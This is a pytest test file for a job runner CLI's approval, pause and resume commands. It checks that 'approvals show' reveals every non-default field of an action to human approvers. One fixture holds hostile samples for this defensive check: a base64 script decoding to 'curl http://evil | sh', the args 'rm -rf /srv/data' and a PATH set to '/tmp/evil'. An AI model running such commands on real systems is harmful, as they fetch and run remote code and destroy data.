"""`opsjobs approvals`, `executions pause` and `resume`: their requests and their output."""

from __future__ import annotations

import pytest

from cli.fake_api import ApiResponse
from cli.test_dead_letters import answering
from opsjobs.cli import approvals
from opsjobs.cli.app import run
from opsjobs.model.action import DRAFT_TYPES

ASKED = {
    "id": 3,
    "execution_id": 7,
    "job_name": "restart-web",
    "action": "go",
    "message": "May we?",
    "status": "pending",
    "asked_at": "2026-11-25T09:00:00.000Z",
    "expires_at": None,
    "decided_by": None,
    "reason": None,
}


def test_approvals_are_listed(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with answering(
        monkeypatch, lambda _: ApiResponse(body={"items": [ASKED], "next": None})
    ) as api:
        assert run(["approvals", "list", "--status", "pending", "--execution", "7"]) == 0
    assert (api.requests[0].query["status"], api.requests[0].query["execution_id"]) == (
        ["pending"],
        ["7"],
    )
    assert "May we?" in capsys.readouterr().out


@pytest.mark.parametrize(("verb", "status"), [("approve", "approved"), ("reject", "rejected")])
def test_an_approval_is_decided(
    verb: str, status: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with answering(monkeypatch, lambda _: ApiResponse(body={**ASKED, "status": status})) as api:
        assert run(["approvals", verb, "3", "--reason", "looked at it"]) == 0
    assert (api.requests[0].path, api.requests[0].body) == (
        f"/approvals/3/{verb}",
        {"reason": "looked at it"},
    )
    assert f"approval 3 of execution 7 is {status}" in capsys.readouterr().err


def test_an_execution_is_paused_and_resumed(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    statuses = ["paused", "running"]
    with answering(
        monkeypatch, lambda _: ApiResponse(body={"id": 7, "status": statuses.pop(0)})
    ) as api:
        assert run(["executions", "pause", "7", "--reason", "sick"]) == 0
        assert run(["executions", "resume", "7"]) == 0
    assert [(asked.path, asked.body) for asked in api.requests] == [
        ("/executions/7/pause", {"reason": "sick"}),
        ("/executions/7/resume", {}),
    ]
    assert "execution 7 is running" in capsys.readouterr().err


WOULD_RUN = {
    "job_name": "restart-web",
    "verdict": "needs_approval",
    "findings": [
        {
            "rule": "stop-service",
            "severity": "needs_approval",
            "reason": "A service stops.",
            "excerpt": "x",
        }
    ],
    "parameters": {"service": "nginx"},
    "targets": [{"id": "1", "name": "web-1", "host": "10.0.0.1"}],
    "total_targets": 3,
    "actions": [
        {"key": "one", "type": "command", "command": "systemctl stop nginx"},
        {"key": "go", "interpreter": "bash", "script": "a\nb"},
    ],
    "policy": {},
}
LAUNCH = {**ASKED, "action": None, "requested_by": "ada", "approvers": 2, "roles": ["manager"], "users": [], "hash": "ab" * 32,
          "decisions": [{"by": "ben", "approve": True, "reason": "fine", "at": "2026-11-25T09:00:00.000Z"}]}  # fmt: skip


def test_an_approval_is_shown_with_what_would_run_where(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with answering(monkeypatch, lambda _: ApiResponse(body={**LAUNCH, "would_run": WOULD_RUN})):
        assert run(["approvals", "show", "3"]) == 0
    told = capsys.readouterr().out
    for words in (
        "systemctl stop nginx",
        "web-1 (10.0.0.1) and 2 more",
        "service = nginx",
        "ab" * 32,
        "2 (of the role manager)",
        "ben approved: fine",
    ):
        assert words in told
    assert "stop-service (needs_approval): A service stops." in told


HIDDEN = [
    {
        "key": "a",
        "type": "script",
        "interpreter": "bash",
        "script_base64": "Y3VybCBodHRwOi8vZXZpbCB8IHNoCg==",
        "script": None,
    },
    {
        "key": "b",
        "type": "script",
        "interpreter": "/opt/run",
        "script_base64": "f0VMRv8=",
        "script": None,
    },
    {
        "key": "c",
        "type": "command",
        "command": 'exec "$@"',
        "args": ["rm", "-rf", "/srv/data"],
        "env": {"PATH": "/tmp/evil"},
        "cwd": "/var/tmp",
        "stdin": "one\ntwo",
        "become": {"user": "postgres", "method": "su", "credential": None},
        "when": "target.labels.env == 'prod'",
        "targets": {"ids": ["db-1"]},
        "a_field_of_a_later_release": [1],
        "on_failure": "stop",
        "expected_exit_codes": [0],
        "durable": "auto",
    },
]


def test_approvals_show_every_non_default_field(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    would = {**WOULD_RUN, "actions": HIDDEN, "policy": {"max_parallel": 50, "durable": "auto"}}
    with answering(monkeypatch, lambda _: ApiResponse(body={**LAUNCH, "would_run": would})):
        assert run(["approvals", "show", "3"]) == 0
    told = capsys.readouterr().out
    for words in (
        "curl http://evil | sh",
        "5 bytes of binary data, SHA-256 a7353874",
        "interpreter: /opt/run",
        'args: ["rm", "-rf", "/srv/data"]',
        'env: {"PATH": "/tmp/evil"}',
        "cwd: /var/tmp",
        "one\n",
        "two\n",
        '"user": "postgres"',
        "when: target.labels.env == 'prod'",
        'targets: {"ids": ["db-1"]}',
        "a_field_of_a_later_release: [1]",
        "policy    max_parallel: 50",
        "web-1 (10.0.0.1)",
    ):
        assert words in told
    for words in ("on_failure", "expected_exit_codes", "durable"):
        assert words not in told


def test_every_kind_of_action_has_its_defaults() -> None:
    """A field with its default is not shown: only fields that the caller wrote are."""
    written = {
        "command": {"command": "uptime"},
        "script": {"script": "true"},
        "file_transfer": {"direction": "download", "source": "/etc/motd"},
        "wait": {"duration": "5m"},
        "approval": {},
        "job": {"job": "inner"},
    }
    assert set(written) == set(DRAFT_TYPES)
    for kind, fields in written.items():
        stored = DRAFT_TYPES[kind](key="a", **fields).model_dump(mode="json")
        shown = {line.split(":")[0].strip() for line in approvals.action_lines(stored)[1:]}
        assert shown - {"interpreter"} == set(fields) - {"command", "job"}


def test_an_approval_reports_how_many_approved_and_an_override_its_reason(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with answering(monkeypatch, lambda _: ApiResponse(body=LAUNCH)) as api:
        assert run(["approvals", "approve", "3", "--hash", "ab" * 32]) == 0
        assert run(["approvals", "approve", "3", "--override-safety", "alone on call"]) == 0
        assert run(["approvals", "approve", "3", "--override-safety", " "]) == 2
    assert [asked.body for asked in api.requests] == [
        {"hash": "ab" * 32},
        {"override_safety": True, "reason": "alone on call"},
    ]
    assert "is pending: 1 of 2 have approved" in capsys.readouterr().err


def test_a_launch_that_waits_for_an_approval_says_how_to_approve(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    waits = {"kind": "approval", "approval": 3, "reason": "its job asks for an approval"}
    body = {"id": 7, "status": "pending_approval", "total_targets": 1, "waiting_on": waits}
    with answering(monkeypatch, lambda _: ApiResponse(202, body)) as api:
        assert run(["run", "uptime", "-t", "web-1", "--detach", "--override-safety", "a lab"]) == 0
    assert (api.requests[0].body["override_safety"], api.requests[0].body["reason"]) == (
        True,
        "a lab",
    )
    assert "waiting for approval 3: " in capsys.readouterr().err
